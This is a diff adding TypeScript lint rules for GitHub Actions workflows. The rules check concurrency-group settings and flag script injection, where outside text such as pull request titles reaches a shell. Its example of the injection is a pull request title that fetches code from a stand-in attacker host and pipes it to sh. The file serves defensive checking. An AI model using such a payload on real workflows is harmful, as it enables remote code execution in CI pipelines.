@@ -1,0 +1,111 @@
+/** Rules about how runs meet each other and what text reaches a shell. */
+import type { Rule } from "../rule.ts";
+import { allJobs, at, isSelfHosted, type WorkflowFile } from "../workflow.ts";
+import { entry, expressionsIn, get, textOf, type YamlEntry } from "../yaml.ts";
+
+interface Group {
+  readonly file: WorkflowFile;
+  readonly item: YamlEntry;
+  readonly queue: string | undefined;
+  readonly cancel: string | undefined;
+}
+
+function groupsOf(files: readonly WorkflowFile[]): readonly Group[] {
+  return files.flatMap((file) =>
+    [entry(file.root, "concurrency"), ...file.jobs.map((job) => entry(job.node, "concurrency"))].flatMap(
+      (item): Group[] => {
+        if (item === undefined) return [];
+        const queue = textOf(get(item.value, "queue"));
+        return [{ file, item, queue, cancel: textOf(get(item.value, "cancel-in-progress")) }];
+      },
+    ),
+  );
+}
+
+export const concurrencyEvictsWaiters: Rule = {
+  id: "concurrency-evicts-waiters",
+  title: "Waiting runs are neither dropped nor is paid work cancelled",
+  explanation:
+    "A concurrency group keeps one waiting run and drops the older one when a third arrives, unless it says `queue: max`. `cancel-in-progress` " +
+    "is for pull request checks that a newer push makes pointless; where a machine is held it kills the job and not the bill.",
+  example:
+    "Three pull requests wanted the GPU at once; the second one's check vanished without a word when the third arrived.",
+  fix: "Add `queue: max`. Use `cancel-in-progress` only in workflows that pull requests or pushes start and that hold no hardware.",
+  check: (repository, _config, found) => {
+    for (const { file, item, queue, cancel } of groupsOf(repository.files)) {
+      if (queue === "max") continue;
+      const cancels = cancel !== undefined && cancel !== "false";
+      if (!cancels)
+        found({ file: file.path, ...item.at }, "This group drops the older waiting run when another arrives.");
+      else if (holdsWork(file))
+        found({ file: file.path, ...item.at }, "This group cancels work that holds hardware or was asked for by name.");
+    }
+  },
+};
+
+function holdsWork(file: WorkflowFile): boolean {
+  const asked = ["workflow_dispatch", "schedule", "repository_dispatch", "workflow_call"].some((name) =>
+    file.triggers.has(name),
+  );
+  return asked || file.jobs.some((job) => job.uses === undefined && isSelfHosted(job));
+}
+
+export const queueMaxWithCancel: Rule = {
+  id: "queue-max-with-cancel",
+  title: "`queue: max` is not combined with `cancel-in-progress`",
+  explanation:
+    "GitHub refuses a workflow that says both, at the moment it should start. The file looks fine until it is needed.",
+  example:
+    'A lock was "made safer" by adding the second key; from then on no run started, and the dispatches were answered with success.',
+  fix: "Keep `queue: max` and remove `cancel-in-progress`.",
+  check: (repository, _config, found) => {
+    for (const { file, item, queue, cancel } of groupsOf(repository.files)) {
+      if (queue === "max" && cancel !== undefined && cancel !== "false") {
+        found({ file: file.path, ...item.at }, "GitHub refuses a workflow that combines these two keys.");
+      }
+    }
+  },
+};
+
+/** Values of an event that nobody outside can give a shape that matters: numbers, ids, commit ids. */
+const HARMLESS =
+  /(?:\.number|\.id|\.sha|\.action|_sha|\.before|\.after|\.run_attempt|\.repository\.default_branch|\.draft|\.merged)$/;
+
+const OUTSIDE =
+  /\b(?:github\.event\.[\w.*-]+|github\.head_ref|github\.ref_name|inputs\.[\w-]+|github\.event\.inputs\.[\w-]+)/g;
+
+export const scriptInjection: Rule = {
+  id: "script-injection",
+  title: "Text from outside reaches a shell through the environment, never through the script",
+  explanation:
+    "GitHub pastes the value of `${{ }}` into the script before the shell reads it. A pull request's title, a branch name, a comment or an input " +
+    "can then end the command it stands in and begin another.",
+  example: 'A pull request titled `"; curl https://attacker.example/x | sh #` ran its command in the triage job.',
+  fix: "Put the expression into `env:` of the step and use the variable, in double quotes.",
+  check: (repository, _config, found) => {
+    for (const job of allJobs(repository)) {
+      for (const step of job.steps) {
+        const script = get(step.node, "with", "script");
+        for (const scalar of [step.run, /github-script@/.test(step.uses?.text ?? "") ? script : undefined]) {
+          if (scalar?.kind !== "scalar") continue;
+          for (const expression of expressionsIn(scalar)) {
+            const bad = [...expression.text.matchAll(OUTSIDE)]
+              .map(([name]) => name)
+              .find((name) => !isHarmless(job.file, name));
+            if (bad !== undefined) found(at(job, expression.at), `'${bad}' is pasted into a script.`);
+          }
+        }
+      }
+    }
+  },
+};
+
+function isHarmless(file: WorkflowFile, name: string): boolean {
+  const input = /^(?:github\.event\.)?inputs\.([\w-]+)$/.exec(name)?.[1];
+  if (input === undefined) return HARMLESS.test(name);
+  const types = ["workflow_dispatch", "workflow_call"].flatMap((trigger) => {
+    const declared = get(file.triggers.get(trigger)?.value, "inputs", input);
+    return declared === undefined ? [] : [textOf(get(declared, "type")) ?? "string"];
+  });
+  return types.length > 0 && types.every((type) => type === "number" || type === "boolean" || type === "choice");
+}
